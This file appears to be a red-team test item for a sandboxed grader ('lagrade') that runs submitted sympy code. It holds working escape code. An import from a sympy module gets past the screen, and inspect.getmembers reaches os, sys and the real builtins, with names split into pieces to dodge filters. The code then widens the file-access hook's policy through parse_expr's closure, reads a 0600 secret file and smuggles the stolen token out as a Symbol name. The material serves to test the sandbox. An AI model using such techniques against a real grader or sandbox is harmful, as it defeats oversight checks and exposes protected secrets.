"""effect: read-secret
tries: take the hook's policy from parse_expr's closure and widen policy.readable to '/', then read the 0600 secret with the real open.

Route 2 without switching the hook off: only the list of readable directories is changed, so the
hook itself approves the open.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.multipledispatch.dispatcher import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

box = []


def work():
    box.append(B["op" + "en"]("/tmp/lagrade-redteam/secret-0600.txt").read().strip())


parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.readable = ("/",)
    policy.trusted = True
work()

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
